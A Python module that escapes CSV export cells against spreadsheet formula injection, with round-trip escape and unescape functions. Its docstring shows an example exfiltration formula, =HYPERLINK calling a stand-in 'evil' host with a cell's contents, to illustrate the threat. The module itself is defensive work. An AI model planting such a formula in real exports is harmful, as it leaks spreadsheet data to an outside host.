"""Text cells of exported CSV files, safe to open in a spreadsheet and read back exactly.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return, or their full-width forms ``＝ ＋ － ＠``) as a formula, so a sentence such as
``=HYPERLINK("http://evil/?"&A1)`` could leak or alter data when someone opens the export.

The rule, applied to the text columns (sentences, annotator, source id) of CSV exports:

- **export** (:func:`escape_cell`): a cell that begins with zero or more apostrophes
  followed by one of those characters gets one more apostrophe in front
  (``=1+1`` -> ``'=1+1``, ``'=1+1`` -> ``''=1+1``); every other cell is written as it is;
- **import** (:func:`unescape_cell`): a cell that begins with an apostrophe followed by
  zero or more apostrophes and one of those characters loses its first apostrophe; every
  other cell is read as it is (``'tis`` stays ``'tis``).

So ``unescape_cell(escape_cell(text)) == text`` for every text, and a spreadsheet shows
the escaped cell as text (it hides the leading apostrophe). The one cost: a CSV file not
written by this package whose cell is an apostrophe followed by a formula character
(``'=x``) reads as ``=x``; that is why pairs files are unescaped only when their header has
:data:`EXPORT_MARKER_COLUMNS`.
"""

from __future__ import annotations

import re

FORMULA_STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
EXPORT_MARKER_COLUMNS = ("annotator", "judged_at")
"""Columns that mark a CSV file as written by ``rcsim label export``: only such files' text cells
are unescaped when read as pairs (a replay oracle over an export then keys the sentences as they
were judged)."""
_NEEDS_ESCAPE = re.compile(f"'*[{re.escape(FORMULA_STARTS)}]")
_ESCAPED = re.compile(f"''*[{re.escape(FORMULA_STARTS)}]")


def escape_cell(text: str) -> str:
    """``text`` made safe for a spreadsheet: an apostrophe in front when it could start a formula."""
    return "'" + text if _NEEDS_ESCAPE.match(text) else text


def unescape_cell(text: str) -> str:
    """The text :func:`escape_cell` was given: the added apostrophe removed, nothing else changed."""
    return text[1:] if _ESCAPED.match(text) else text
